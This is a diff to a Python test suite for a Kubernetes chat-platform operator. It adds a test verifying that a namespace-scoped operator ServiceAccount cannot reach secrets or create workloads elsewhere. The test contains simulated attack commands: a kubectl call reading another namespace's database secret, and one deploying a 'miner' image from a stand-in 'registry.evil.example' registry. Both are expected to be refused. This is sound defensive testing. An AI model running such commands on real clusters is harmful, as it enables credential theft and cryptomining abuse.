@@ -10,16 +10,28 @@ from __future__ import annotations
 import copy
 import ipaddress
 import json
+import subprocess
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
 
 from tests.support.kube import KubeCluster
-from tests.support.operator import channel, condition, connections_secret, platform, room, wait_condition
+from tests.support.operator import (
+    OPERATOR_NAMESPACE,
+    REPO,
+    OperatorProcess,
+    channel,
+    condition,
+    connections_secret,
+    platform,
+    room,
+    wait_condition,
+)
 from veza_core.specs import ChatRoomSpec, StreamChannelSpec
-from veza_local.controlplane import wait_for
+from veza_local.controlplane import tool, wait_for
 from veza_operator import platform as platform_mod
 from veza_operator.chatroom import CHAT_WORKERS, purge_job
 from veza_operator.models import VezaPlatformSpec
@@ -416,3 +428,63 @@ def test_the_allow_lists_come_from_the_operators_settings() -> None:
     tls = platform_spec(ingress={"tls": {"secretName": "veza-tls"}})
     assert secrets_in(everything(tls, RELAY)) == {"veza-connections", "demo-jwt-keys", "veza-tls"}
     assert secrets_in(everything(nats_platform())) >= {"nats-creds", "nats-ca", "nats-api", "nats-chat"}
+
+
+# -- 9: an operator watching namespaces holds no rights elsewhere -------------------------------------
+
+
+@pytest.mark.kube
+def test_an_operator_watching_namespaces_cannot_read_secrets_or_create_workloads_elsewhere(
+        kube: KubeCluster, operator_install: object, operator_stepped_aside: None, tmp_path: Path) -> None:
+    watched, other = kube.create_namespace("watched"), kube.create_namespace("other")
+    release = sa = "veza-scoped"  # the chart's RBAC under a release of its own
+    rendered = kube.helm("template", release, str(REPO / "charts" / "veza"), "--namespace", OPERATOR_NAMESPACE,
+                         "--set", f"serviceAccount.name={sa}", "--set", f"operator.peering={release}",
+                         "--set", f"operator.watchNamespaces={{{watched}}}",
+                         "--show-only", "templates/serviceaccount.yaml", "--show-only", "templates/rbac.yaml",
+                         "--show-only", "templates/peering.yaml").stdout
+    kube.kubectl("apply", "--server-side", "--force-conflicts", "-f", "-", input=rendered)
+    user = f"system:serviceaccount:{OPERATOR_NAMESPACE}:{sa}"
+
+    def can(verb: str, resource: str, namespace: str | None) -> bool:
+        where = ["-n", namespace] if namespace else ["--all-namespaces"]
+        answer = kube.run("kubectl", "auth", "can-i", verb, resource, f"--as={user}", *where, check=False)
+        return answer.stdout.strip() == "yes"
+
+    proc: OperatorProcess | None = None
+    try:
+        # SubjectAccessReviews: what it needs where it watches, nothing anywhere else.
+        for verb, resource in [("get", "secrets"), ("create", "secrets"), ("create", "deployments"),
+                               ("create", "jobs"), ("patch", "chatrooms.veza.io")]:
+            assert can(verb, resource, watched), (verb, resource)
+        for namespace in (other, OPERATOR_NAMESPACE, None):
+            for verb, resource in [("get", "secrets"), ("create", "secrets"), ("create", "deployments"),
+                                   ("create", "jobs"), ("get", "configmaps"), ("list", "vezaplatforms.veza.io")]:
+                assert not can(verb, resource, namespace), (verb, resource, namespace or "cluster-wide")
+        assert not can("list", "secrets", watched) and not can("watch", "secrets", watched)
+        assert not can("create", "clusterrolebindings", None)
+
+        # The attack itself, with a token of that ServiceAccount: refused by the API server.
+        kubeconfig = kube.service_account_kubeconfig(OPERATOR_NAMESPACE, sa, tmp_path / "kubeconfig")
+        kube.apply(secret(other, "billing-db", uri="postgresql://billing:secret@billing/billing"))
+        stolen = subprocess.run([tool("kubectl"), f"--kubeconfig={kubeconfig}", "get", "secret", "billing-db",
+                                 "-n", other, "-o", "json"], capture_output=True, text=True, timeout=60)
+        assert stolen.returncode != 0 and "forbidden" in stolen.stderr.lower(), stolen.stderr
+        miner = subprocess.run([tool("kubectl"), f"--kubeconfig={kubeconfig}", "create", "deployment", "miner",
+                                "--image=registry.evil.example/miner", "-n", other],
+                               capture_output=True, text=True, timeout=60)
+        assert miner.returncode != 0 and "forbidden" in miner.stderr.lower(), miner.stderr
+        assert kube.get("deployment", "miner", other) is None
+
+        # And the operator does its work with exactly these rights.
+        proc = OperatorProcess(kubeconfig, tmp_path / "operator.log", peering=release, namespaces=[watched]).start()
+        kube.apply(connections_secret(watched), platform(watched), room(watched, "lobby"))
+        wait_condition(kube, "vezaplatform", "demo", watched, timeout=90)
+        wait_condition(kube, "chatroom", "lobby", watched, timeout=90)
+    finally:
+        if proc is not None:
+            proc.stop()
+        kube.kubectl("delete", "clusterrole,clusterrolebinding", f"{release}-operator", "--ignore-not-found")
+        kube.kubectl("delete", "serviceaccount", sa, "-n", OPERATOR_NAMESPACE, "--ignore-not-found")
+        for namespace in (watched, other):
+            kube.delete_namespace(namespace)
